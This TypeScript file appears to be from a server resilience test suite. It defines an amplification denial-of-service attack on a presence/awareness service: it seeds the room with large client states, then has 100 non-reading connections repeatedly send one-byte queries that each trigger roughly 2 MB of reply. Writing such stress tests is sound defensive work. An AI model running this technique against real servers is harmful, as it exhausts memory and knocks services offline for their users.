import { encodeRaw } from "../../../support/raw-messages.ts";
import type { Attack } from "../attack.ts";
import { frame, repeated } from "../raw-socket.ts";

const QUERIES = repeated(frame(Uint8Array.of(3)), 50);

/** An awareness query is answered with the awareness of the whole room: here 2 MB, for one byte. */
export const attack: Attack = {
  name: "presence queries from clients that do not read",
  connections: [100],
  prepare: async (target) => {
    const crowd = await target.connect();
    for (let client = 1; client <= 32; client++) {
      const states = [{ client, clock: 1, state: { x: "y".repeat(60_000) } }];
      crowd.send(encodeRaw({ type: "presence", states }));
    }
    await crowd.drained();
  },
  run: async (target) => {
    const clients = await target.connectAll();
    for (const client of clients) client.stopReading();
    while (!target.over) {
      for (const client of clients) client.write(QUERIES);
      await target.pause(100);
    }
  },
};
